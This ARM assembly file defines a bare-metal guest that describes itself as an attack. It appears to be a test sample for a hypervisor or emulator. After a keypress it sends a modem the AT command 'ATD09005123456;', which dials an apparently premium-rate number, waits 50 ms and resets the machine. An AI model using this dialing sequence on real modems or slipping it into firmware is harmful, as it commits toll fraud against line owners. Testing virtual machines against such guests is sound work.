/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * A guest that is nothing but an attack. It says that it is up, waits for a byte on its console, asks the modem for a
 * premium call, leaves the request 50 ms to become a prompt, and restarts itself: PSCI SYSTEM_RESET by HVC
 * (ARM DEN 0022, "SYSTEM_RESET"). PL011 registers: ARM DDI 0183, "Programmer's model".
 */
    .equ CONSOLE, 0x09000000
    .equ MODEM, 0x09040000
    .equ DR, 0x00
    .equ FR, 0x18
    .equ LCRH, 0x2c
    .equ CR, 0x30

    .arch_extension virt
    .arch_extension idiv
    .text
    .global _start
_start:
    ldr r8, =CONSOLE
    ldr r9, =MODEM
    mov r0, #0x70               /* 8 bits, FIFO */
    str r0, [r9, #LCRH]
    str r0, [r8, #LCRH]
    movw r0, #0x301             /* on, both ways */
    str r0, [r9, #CR]
    str r0, [r8, #CR]
    adr r1, up
    mov r2, r8
    bl print
1:  ldr r0, [r8, #FR]           /* RXFE: nothing typed yet */
    tst r0, #1 << 4
    bne 1b
    ldr r0, [r8, #DR]
    adr r1, dial
    mov r2, r9
    bl print
    mrc p15, 0, r3, c14, c0, 0  /* CNTFRQ */
    mov r4, #20
    udiv r3, r3, r4             /* 50 ms */
    mrrc p15, 1, r4, r5, c14    /* CNTVCT: its low word wraps, a difference does not */
2:  mrrc p15, 1, r6, r7, c14
    sub r6, r6, r4
    cmp r6, r3
    blo 2b
    ldr r0, =0x84000009
    hvc #0
3:  wfi
    b 3b

/* In: r1 = text, r2 = UART. Clobbers: r0, r1, r3. */
print:
    ldrb r0, [r1], #1
    cmp r0, #0
    bxeq lr
1:  ldr r3, [r2, #FR]           /* TXFF: full */
    tst r3, #1 << 5
    bne 1b
    str r0, [r2, #DR]
    b print

up:   .asciz "ROBIN-GUEST: up\r\n"
dial: .asciz "ATD09005123456;\r"
    .balign 4
